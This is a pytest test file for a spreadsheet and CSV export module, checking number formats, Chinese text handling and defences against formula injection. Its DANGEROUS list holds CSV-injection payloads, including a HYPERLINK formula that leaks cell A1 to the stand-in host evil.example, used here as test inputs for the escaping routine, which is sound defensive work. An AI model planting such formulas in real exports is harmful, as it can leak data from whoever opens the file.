"""Excel and CSV writers: numbers stay numbers, and no cell text can run as a formula."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from jiceng.core.exports import (
    DECIMAL,
    INTEGER,
    PERCENT,
    Column,
    csv_bytes,
    neutralise,
    sheet_title,
    xlsx_bytes,
)

COLUMNS = [
    Column("名称"),
    Column("派单", INTEGER),
    Column("响应率", PERCENT),
    Column("综合得分", DECIMAL),
    Column("日期"),
]
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _sheet(body):
    return load_workbook(io.BytesIO(body)).active


def _csv_rows(body):
    assert body.startswith("\ufeff".encode())  # so Excel reads the Chinese as UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["枫桥镇", "1+1", "a=b", "", "'already quoted", "—"])
def test_ordinary_text_is_left_alone(text):
    assert neutralise(text) == text


def test_xlsx_keeps_numbers_as_numbers_with_their_formats():
    rows = [["枫桥镇", 6, 4 / 6, 72.5, date(2026, 3, 1)], ["暨阳街道", 1, None, None, None]]
    sheet = _sheet(xlsx_bytes(title="排名", columns=COLUMNS, rows=rows))
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == ["名称", "派单", "响应率", "综合得分", "日期"]
    assert values[1] == ["枫桥镇", 6, pytest.approx(4 / 6), 72.5, "2026-03-01"]
    assert values[2] == ["暨阳街道", 1, None, None, None]
    assert (sheet["B2"].data_type, sheet["C2"].data_type) == ("n", "n")
    assert (sheet["C2"].number_format, sheet["D2"].number_format) == ("0.0%", "0.0")
    assert sheet.title == "排名" and sheet.freeze_panes == "A2"


@pytest.mark.parametrize("text", DANGEROUS)
def test_xlsx_writes_formula_like_text_as_inert_text(text):
    columns = [Column(text), Column("n", INTEGER)]
    sheet = _sheet(xlsx_bytes(title="t", columns=columns, rows=[[text, -5]]))
    for cell in (sheet["A1"], sheet["A2"]):
        assert cell.data_type == "s"
        # XML reads a carriage return back as a line feed; the leading quote is what matters.
        assert cell.value == ("'" + text).replace("\r", "\n")
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-5, "n")  # a negative number is a number


def test_xlsx_drops_control_characters_excel_cannot_store():
    sheet = _sheet(xlsx_bytes(title="t", columns=[Column("x")], rows=[["路灯\x00坏了\x1b"]]))
    assert sheet["A2"].value == "路灯坏了"


def test_csv_writes_numbers_plainly_and_rates_as_percentages():
    rows = [["枫桥镇", 6, 4 / 6, 72.5, date(2026, 3, 1)], ["暨阳街道", 1, None, None, None]]
    assert _csv_rows(csv_bytes(columns=COLUMNS, rows=rows)) == [
        ["名称", "派单", "响应率", "综合得分", "日期"],
        ["枫桥镇", "6", "66.7%", "72.5", "2026-03-01"],
        ["暨阳街道", "1", "", "", ""],
    ]


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_writes_formula_like_text_as_inert_text(text):
    rows = _csv_rows(csv_bytes(columns=[Column(text)], rows=[[text]]))
    assert rows == [["'" + text], ["'" + text]]


def test_sheet_titles_lose_the_characters_excel_forbids_and_fit_31_characters():
    assert sheet_title("a/b:c*d?e[f]g\\h") == "a b c d e f g h"
    assert len(sheet_title("很长" * 40)) == 31
